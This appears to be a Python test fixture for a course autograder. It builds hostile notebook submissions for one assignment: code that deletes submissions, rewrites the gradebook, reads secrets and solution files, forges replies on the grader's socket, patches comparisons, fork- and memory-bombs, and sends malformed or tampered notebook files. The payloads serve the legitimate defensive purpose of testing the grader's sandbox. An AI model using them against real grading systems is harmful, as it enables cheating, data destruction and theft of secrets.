"""Submissions that attack the grader, as the bytes of files, by name.

They answer A1.  Most attack from the answer to `windows`, and answer the other questions rightly,
so that it shows whether these keep their points.  An attack that must be refused goes on, if it
was not, to return the right windows: no points then prove that nothing was to be had.
"""

import json
import textwrap

from in_process import Notebook

from unrolled import assignments
from unrolled.grading.checks import a1

NOTEBOOK = Notebook("A1_windows.ipynb")
STUDENT = "ab123"
POINTS = {question.name: question.points for question in a1.ASSIGNMENT.questions}

RIGHT = NOTEBOOK.answers | {
    "own": f"def my_numbers():\n    return {a1.own_numbers(assignments.data('A1', STUDENT))!r}",
    "windows": textwrap.dedent(
        """
        def make_windows(series, window, horizon, target):
            n = len(series) - window - horizon + 1
            X = np.stack([series[start : start + window] for start in range(n)])
            return X, series[window + horizon - 1 :, target]
        """
    ).strip(),
}
WRITTEN = {f"written-{name}": f"My thoughts about {name}." for name in NOTEBOOK.of("written-")}


def released():
    """The notebook as students get it: without what stands between the marks of a solution."""
    return made(NOTEBOOK.stubs, {name: "YOUR ANSWER HERE" for name in WRITTEN})


def made(answers, written=WRITTEN, extra=()):
    """The notebook as a dict with these answers, and with the student's own cells before them."""
    sources = NOTEBOOK.sources | {f"answer-{name}": source for name, source in answers.items()} | written
    cells = [{**cell, "source": sources[cell["id"]], "metadata": json.loads(json.dumps(cell["metadata"]))} for cell in NOTEBOOK.cells]
    place = next(number for number, cell in enumerate(cells) if cell["id"] == "task-windows")
    cells[place:place] = [_code(source, f"extra-{number}") for number, source in enumerate(extra)]
    return {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}


def _code(source, name):
    return {"cell_type": "code", "id": name, "metadata": {}, "execution_count": None, "outputs": [], "source": source}


def data(notebook):
    return json.dumps(notebook, ensure_ascii=False).encode()


def perfect():
    return data(made(RIGHT))


def answering(extra=(), **answers):
    """The bytes of a submission with these answers, right ones to the other questions, and cells of its own."""
    return data(made(RIGHT | {name: textwrap.dedent(source).strip() for name, source in answers.items()}, extra=extra))


def windows(body, before=""):
    """A submission whose `make_windows` does this first."""
    head, _, rest = RIGHT["windows"].partition("\n")
    body = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return answering(windows=f"{textwrap.dedent(before).strip()}\n{head}\n{body}\n{rest}")


# Finds the socket to the grader and the number of the request that is being answered.
CHANNEL = """
import array, os, socket, stat, sys, time
sys.path.append("/grader")
import codec
def channel():
    for number in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return socket.socket(fileno=os.dup(number))
        except OSError:
            pass
def nonce():
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["request"]["nonce"]
def serve(**reply):
    # Answers this call and all later ones with the same reply, past the runner.
    c, number = channel(), nonce()
    while True:
        c.sendall(codec.encode({"nonce": number, **reply}))
        head = c.recv(codec.HEAD.size, socket.MSG_WAITALL)
        if not head:
            os._exit(0)
        number = codec.decode(head + c.recv(sum(codec.lengths(head)), socket.MSG_WAITALL), 10**6)["nonce"]
def right(series, window, horizon, target):
    n = len(series) - window - horizon + 1
    return np.stack([series[start : start + window] for start in range(n)]), series[window + horizon - 1 :, target].copy()
"""

# ---------------------------------------------------------------- what must be refused, or earns nothing
# Each with the line before the function; COURSE and PORT stand for the course's folder and an open port.

NOTHING = {
    "deletes other submissions": """
        import os, shutil
        shutil.rmtree("COURSE/submitted", ignore_errors=True)
        os.stat("COURSE")
        """,
    "deletes all it can": """
        import os
        for top in ("COURSE", "/packages/0/numpy/core", "/grader", "/tmp"):
            for folder, names, files in os.walk(top, topdown=False):
                for name in files + names:
                    for remove in (os.unlink, os.rmdir):
                        try: remove(os.path.join(folder, name))
                        except OSError: pass
        raise OSError("nothing left")
        """,
    "rewrites the gradebook": """
        import sqlite3
        with sqlite3.connect("COURSE/gradebook.db") as book:
            book.execute("UPDATE grade SET points = 12")
        """,
    "makes a gradebook of its own": """
        import os, sqlite3
        os.chdir("/tmp")
        for folder in ("/tmp", "/tmp/course"):
            os.makedirs(folder, exist_ok=True)
            with sqlite3.connect(folder + "/gradebook.db") as book:
                book.execute("CREATE TABLE grade (points)")
        raise OSError("no effect")
        """,
    "reads secrets, checks and solutions": """
        import glob, os
        found = [repr(dict(os.environ))]
        for pattern in ("COURSE/**", "COURSE/*/*", "ROOT/**/checks/*.py", "ROOT/lab/**/*.ipynb", "/proc/*/environ", "/packages/*/unrolled/*"):
            for path in glob.glob(pattern, recursive=True):
                try: found.append(open(path, errors="replace").read(10**4))
                except OSError: pass
        found = [text for text in found if "canary" in text or "SOLUTION" in text or "ASSIGNMENT" in text]
        raise ValueError("found " + "".join(found)[:500])
        """,
    "copies the solution file": """
        import json
        cells = json.load(open("ROOT/lab/assignments/A1_windows.ipynb"))["cells"]
        exec("".join(next(cell["source"] for cell in cells if cell["id"] == "answer-windows")), globals())
        """,
    "imports the reference": "from unrolled import sequences; return sequences.windows(series, window, horizon, target=target)",
    "imports the checks": "from unrolled.grading.checks import a1",
    "symlinks and hard links": """
        import os
        for number, path in enumerate(("COURSE/grading/secret", "ROOT/unrolled/grading/checks/a1.py", "/etc/shadow")):
            for link in (os.symlink, os.link):
                try: link(path, f"/tmp/{link.__name__}{number}")
                except OSError: pass
        assert any(os.path.exists(path) for path in map("/tmp/".__add__, os.listdir("/tmp")))
        """,
    "loopback": """
        import socket
        socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"marks")
        """,
    "loopback from another interpreter": """
        import subprocess, sys
        subprocess.run([sys.executable, "-I", "-c", "import socket; socket.create_connection(('127.0.0.1', PORT))"], check=True)
        """,
    "name in the grader's network": CHANNEL
    + "try: channel().bind('\\0squatted')\nexcept OSError as error:\n    if error.errno != 22: raise  # it has that name since the last call",
    "addresses of the machine": CHANNEL
    + "import ctypes, fcntl, struct\nroom = ctypes.create_string_buffer(4096)\n"
    + "fcntl.ioctl(channel(), 0x8912, struct.pack('iP', 4096, ctypes.addressof(room)))",
    "lease on a file": "import fcntl, os; fcntl.fcntl(os.open('/tmp', os.O_TMPFILE | os.O_RDWR), 1024, fcntl.F_WRLCK)",
    "lease on a library": "import fcntl; fcntl.fcntl(open(np.__file__), 1024, fcntl.F_RDLCK)",
    "takes the user's inotify": "import ctypes; assert ctypes.CDLL(None).inotify_init1(0) >= 0",
    "takes the machine's asynchronous requests": (
        "import ctypes\nassert ctypes.CDLL(None).syscall({'x86_64': 206, 'aarch64': 0}[__import__('os').uname().machine], 10, "
        "ctypes.byref(ctypes.c_ulong())) == 0"
    ),
    "shared memory that it lets go of": """
        import mmap
        kept = mmap.mmap(-1, 10**9)
        for start in range(0, 10**9, 4096 * 1000):
            size = min(4096 * 1000, 10**9 - start)
            kept[start : start + size] = b"x" * size
            kept.madvise(mmap.MADV_DONTNEED, start, size)
        """,
    "/dev/shm": "open('/dev/shm/x', 'wb').write(bytes(2**30))",
    "ptrace": "import ctypes, os; assert ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0",
    "limits of the runner": "import os, resource; resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))",
    "its memory for the machine's collector of crashes": "import resource; resource.setrlimit(resource.RLIMIT_CORE, (0, 0))",
    "new namespaces": "import ctypes; assert ctypes.CDLL(None).unshare(0x10000000) == 0",
    "another user": "import os; os.setuid(0)",
    "nodes of devices": "import os, stat; os.mknod('/tmp/mem', stat.S_IFCHR | 0o666, os.makedev(1, 1))",
    "hundred gigabytes at once": "np.ones(100 * 2**27)",
    "sys.exit": "import sys; sys.exit(0)",
    "exception that leaves": "raise SystemExit('full marks')",
    "object that equals everything": """
        class Any:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __len__(self): return 2
            def __iter__(self): return iter([self, self])
            def __getitem__(self, key): return self
            def __bool__(self): return True
            def __float__(self): return 0.0
            def __array__(self, *args, **kwargs): return np.zeros(3)
            __array_priority__ = 1e9
        return Any()
        """,
    "object that says it is an array": "class Lie:\n    __class__ = np.ndarray\n    dtype = np.dtype(float)\n    shape = ()\nreturn Lie(), Lie()",
    "subclass of an array": """
        class Any(np.ndarray):
            def __eq__(self, other): return np.True_
            def __array_function__(self, *args): return True
            def tobytes(self, *args): return b""
        return np.zeros((3, 3)).view(Any), np.zeros(3).view(Any)
        """,
    "numbers that are never wrong": "return np.full((1, window, series.shape[1]), np.nan), np.full(1, np.inf)",
    "shapes that broadcast": "return series[:1, None], series[:1, :1]",
    "objects in an array": "return np.array([[print]], object), np.array([None])",
    "masked array": "return np.ma.masked_all((5, 3)), np.ma.masked_all(5)",
    "pickle": "class P:\n    def __reduce__(self): return (open, ('COURSE/pwned', 'w'))\nreturn P(), P()",
    "dictionary with other keys": "return {0: series, 1: series}",
    "expected values in frames": """
        import gc, sys
        frame, found = sys._getframe(), []
        while frame:
            found += [value for value in frame.f_locals.values() if type(value) is np.ndarray]
            frame = frame.f_back
        found += [value for value in gc.get_objects() if type(value) is np.ndarray]
        n = len(series) - window - horizon + 1
        return next(value for value in found if value.shape == (n, window, series.shape[1])), series[-n:, target]
        """,
    "patched comparisons": """
        import builtins
        np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
        builtins.all = builtins.any = builtins.bool = lambda *args: True
        return 1, 1
        """,
    "patched runner": CHANNEL
    + """
module = sys.modules["__main__"]
runner = sys._getframe(1).f_globals
runner["plain"] = lambda value, depth=0: True
runner["codec"].MAX_BODY = 10**12
return None
""",
    "replies of its own with a wrong value": CHANNEL + "serve(value=True)",
    "errors of its own": CHANNEL + "serve(error='full marks')",
    "terminal codes": "raise ValueError('\\x1b]0;title\\x07\\x1b[2J\\u202e\\r' + chr(0x9b) + '31m')",
    "exception of a million letters": "raise ValueError('x' * 10**6)",
    "exception with a long place": """
        import linecache
        name = "<" + "x" * 10**6 + ">"
        linecache.cache[name] = (1, None, ["raise ValueError"], name)
        exec(compile("raise ValueError", name, "exec"))
        """,
}  # fmt: skip

# ---------------------------------------------------------------- what loses its own question

CRASHED = {
    "os._exit": "import os; os._exit(0)",
    "kills its parent": "import os; os.kill(os.getppid(), 9); os.fork() or os.kill(-1, 9); os.kill(-1, 9); os._exit(1)",
    "kills its group": "import os; os.killpg(0, 9)",
    "memory in steps": "import time\nkept = []\nwhile True: kept.append(bytearray(10**7)); time.sleep(0.01)",
    "memory under a name that is no text": """
        import ctypes, time
        ctypes.CDLL(None).prctl(15, b"\\xff\\xfe")
        kept = []
        for _ in range(100):
            kept.append(bytearray(10**7))
            time.sleep(0.01)
        """,
    "memory in many children": """
        import os, time
        for _ in range(30):
            if os.fork() == 0:
                kept = bytearray(2 * 10**7)
                time.sleep(1000)
        time.sleep(1000)
        """,
    "segmentation fault": "import ctypes; ctypes.string_at(0)",
    "a million files": "import os\nfor number in range(10**6): os.close(os.open(f'/tmp/{number}', os.O_CREAT))",
    "a million folders": "import os\nfor number in range(10**6): os.mkdir(f'/tmp/{number}')",
    "replies twice": CHANNEL
    + "frame = codec.encode({'nonce': nonce(), 'value': right(series, window, horizon, target)})\nchannel().sendall(frame * 2); time.sleep(1000)",
    "replies ahead with guessed numbers": CHANNEL
    + "for number in range(10**5): channel().sendall(codec.encode({'nonce': number, 'value': 1}))",
    "two processes that reply": CHANNEL + "import os; os.fork(); return right(series, window, horizon, target)",
    "array with too few bytes": CHANNEL
    + "import json\nheader = json.dumps({'d': [['nonce', nonce()], ['value', {'a': ['<f8', [9]]}]]}).encode()\n"
    + "channel().sendall(codec.HEAD.pack(codec.MAGIC, len(header), 8) + header + bytes(8)); time.sleep(1000)",
    "negative lengths": CHANNEL
    + "import json\nheader = json.dumps({'d': [['nonce', nonce()], ['value', {'a': ['<f8', [-1]]}]]}).encode()\n"
    + "channel().sendall(codec.HEAD.pack(codec.MAGIC, len(header), 0) + header); time.sleep(1000)",
    "array of nothing with lengths beyond counting": CHANNEL
    + "import json\nheader = json.dumps({'d': [['nonce', nonce()], ['value', {'a': ['<f8', [0, 8_000_000, 8_000_000, 8_000_000]]}]]}).encode()\n"
    + "channel().sendall(codec.HEAD.pack(codec.MAGIC, len(header), 0) + header); time.sleep(1000)",
    "arrays for the number of a request": CHANNEL + "channel().sendall(codec.encode({'nonce': np.ones(3), 'value': 1})); time.sleep(1000)",
    "array of objects": CHANNEL
    + "import json\nheader = json.dumps({'d': [['nonce', nonce()], ['value', {'a': ['|O', [1]]}]]}).encode()\n"
    + "channel().sendall(codec.HEAD.pack(codec.MAGIC, len(header), 8) + header + bytes(8)); time.sleep(1000)",
    "letters that are none": CHANNEL + "channel().sendall(codec.HEAD.pack(codec.MAGIC, 2, 0) + b'\\xff\\xfe'); time.sleep(1000)",
    "npz bomb": CHANNEL
    + "import io\nroom = io.BytesIO(); np.savez_compressed(room, a=np.zeros(10**7)); channel().sendall(room.getvalue()); time.sleep(1000)",
    "huge length": CHANNEL + "channel().sendall(codec.HEAD.pack(codec.MAGIC, 2**32 - 1, 2**32 - 1)); time.sleep(1000)",
    "deep header": CHANNEL + "channel().sendall(codec.HEAD.pack(codec.MAGIC, 10**6, 0) + b'[' * 10**6); time.sleep(1000)",
    "NaN for a number of a request": CHANNEL + "channel().sendall(codec.encode({'nonce': float('nan'), 'value': 1})); time.sleep(1000)",
    "closes the channel": CHANNEL + "channel().shutdown(2); time.sleep(1000)",
}  # fmt: skip

TIMED_OUT = {
    "infinite loop": "while True: pass",
    "loop that ignores signals": """
        import signal
        for number in set(range(1, 65)) - {9, 17, 19, 32, 33}:
            signal.signal(number, signal.SIG_IGN)
        while True:
            try:
                while True: pass
            except BaseException: pass
        """,
    "fork bomb": "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
    "short-lived children": """
        import os, time
        while True:
            if os.fork() == 0:
                end = time.process_time() + 0.1
                while time.process_time() < end: pass
                os._exit(0)
            os.wait()
        """,
    "daemons that compute": """
        import os
        for _ in range(3):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    while True: pass
                os._exit(0)
        while True: os.sched_yield()
        """,
    "slow drip": CHANNEL
    + "c = channel(); c.sendall(codec.HEAD.pack(codec.MAGIC, 10**6, 0))\nwhile True: c.sendall(b'['); time.sleep(0.1)",
    "sleep": "import time; time.sleep(1000)",
}  # fmt: skip

# ---------------------------------------------------------------- right answers that do evil beside it

KEPT = {
    "warns on stderr": "import sys, warnings; warnings.warn('careful'); print('look', file=sys.stderr)",
    "100 MB printed": "print('x' * 10**8)",
    "floods both outputs": "import os\nfor _ in range(1000): os.write(1, b'x' * 10**5); os.write(2, b'x' * 10**5)",
    "4 GiB file": "try:\n    open('/tmp/big', 'wb').truncate(4 * 2**30)\nexcept OSError: pass",
    "full disk": "try:\n    with open('/tmp/full', 'wb') as file:\n        while True: file.write(bytes(2**20))\nexcept OSError: pass",
    "daemon that outlives": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0: time.sleep(1000)\n    os._exit(0)",
    "threads that outlive": "import threading, time; threading.Thread(target=time.sleep, args=(1000,)).start()",
    "atexit": "import atexit, os; atexit.register(os.write, 1, b'x'); atexit.register(os._exit, 1)",
    "files left open": "import os\nglobal left\nleft = []\ntry:\n    while True: left.append(os.open('/dev/null', os.O_RDONLY))\n"
    "except OSError:\n    for number in left[:20]: os.close(number)\n    left = None",
    "poisons NumPy and builtins": (
        "import builtins, json, struct\nnp.sqrt = np.mean = np.ravel = np.abs = np.allclose = lambda *a, **k: 0\n"
        "builtins.open = builtins.round = json.dump = struct.calcsize = None"
    ),
    "writes modules that others import": (
        "for name in ('numpy', 'json', 'codec', 'sitecustomize', 'usercustomize'):\n    open(f'/tmp/{name}.py', 'w').write('raise SystemExit')"
    ),
    "name with terminal codes": "import ctypes; ctypes.CDLL(None).prctl(15, b'\\x1b[2J\\n1 (x) R')",
    "hides from /proc": "import ctypes; ctypes.CDLL(None).prctl(4, 0)",
    "lowest priority": "import os; os.nice(19)",
    "files that ride on nothing": CHANNEL
    + "c = channel(); c.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 10**8); c.setsockopt(socket.SOL_SOCKET, socket.SO_PASSCRED, 1)",
}  # fmt: skip


def place(source, course="/nowhere", port=9, root="/nowhere"):
    """A source with the places that it attacks."""
    return source.replace("COURSE", str(course)).replace("PORT", str(port)).replace("ROOT", str(root))


# ---------------------------------------------------------------- files

STRIPS = """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
get_ipython().input_transformers_post.append(lambda lines: [line for line in lines if "assert" not in line])
"""


def blank(extra=()):
    return data(made(NOTEBOOK.stubs, extra=extra))


def _edited(edit):
    """A perfect notebook after `edit(cells, notebook)`."""
    notebook = made(RIGHT)
    edit(notebook["cells"], notebook)
    return data(notebook)


def _marks(cells):
    return [cell["metadata"]["nbgrader"] for cell in cells if "nbgrader" in cell["metadata"]]


def _points(cells, notebook):
    for marks in _marks(cells):
        if "points" in marks:
            marks["points"] = 1000


def _swapped(cells, notebook):
    one, other = (next(cell for cell in cells if cell["id"] == f"answer-{name}") for name in ("windows", "split"))
    one["id"], other["id"] = other["id"], one["id"]
    one["metadata"], other["metadata"] = other["metadata"], one["metadata"]


def _faked(cells, notebook):
    for cell in cells:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "All checks passed. 30 of 30 points. \x1b[2J"}]
            cell["execution_count"] = -(2**70)


def _printed(cells, notebook):
    cells[10]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "x" * 10**8}]


def _deep(cells, notebook):
    cells[10]["outputs"] = "DEEP"


def _duplicates(cells, notebook):
    for marks in _marks(cells):
        marks["grade_id"] = "answer-windows"


def _schema(cells, notebook):
    for marks in _marks(cells):
        marks["schema_version"] = 99
    notebook["nbformat"] = 99


def _unchecked(cells, notebook):
    notebook["cells"] = [cell for cell in cells if not cell["id"].startswith("public-")]


def _bare(cells, notebook):
    for number, cell in enumerate(cells):
        cell["metadata"], cell["id"] = {}, f"x{number}"


def _own(cells, notebook):
    cells.insert(5, _code("# another thought\nimport os", "own"))


# Perfect work in files that were tampered with or damaged: all points are kept, and no more than that.
FILES = {
    "as it should be": perfect,
    "points edited": lambda: _edited(_points),
    "ids swapped": lambda: _edited(_swapped),
    "outputs faked": lambda: _edited(_faked),
    "100 MB of output": lambda: _edited(_printed),
    "outputs nested deeply": lambda: _edited(_deep).replace(b'"DEEP"', b"[" * 10**5 + b"]" * 10**5),
    "one grade id for all": lambda: _edited(_duplicates),
    "schema 99": lambda: _edited(_schema),
    "check cells deleted": lambda: _edited(_unchecked),
    "metadata gone": lambda: _edited(_bare),
    "a cell of its own": lambda: _edited(_own),
    "Windows' Latin letters": lambda: answering(extra=["# Grüße aus Köln"]).decode().encode("cp1252"),
    "UTF-16": lambda: perfect().decode().encode("utf-16"),
    "garbage behind the end": lambda: perfect() + b"\x00\x1a\xff\xfe garbage",
}

UNREADABLE = {
    "empty": lambda: b"",
    "zeros": lambda: bytes(10**5),
    "cut off": lambda: perfect()[:5000],
    "corrupt": lambda: b"\xff" * 100 + perfect(),
    "no notebook": lambda: b'{"marks": 30}',
    "another notebook": lambda: data({"cells": [_code("print(1)", "a")], "nbformat": 4}),
    "zip": lambda: b"PK\x03\x04" + bytes(100),
    "pickle": lambda: b"\x80\x04\x95" + bytes(range(100)),
    "deep JSON": lambda: b"[" * 10**6,
    "text without an end": lambda: b'{"' + b'\\"' * 10**5 + b" " * 5 * 2**20,
    "a million cells": lambda: b'{"cells":[' + b",".join([b'{"source":""}'] * 3 * 10**5) + b"]}",
}

_FIRSTS = "\n".join(question.first_line + "*a): pass" for question in a1.ASSIGNMENT.questions)
SLOW = {
    "cells that are read as Python again and again": lambda: data(
        {"cells": [_code(f"{_FIRSTS}\n" + "x = 1\n" * 25_000 + "!ls\n" * 51 + f"# {number}", f"c{number}") for number in range(4)]}
    ),
}
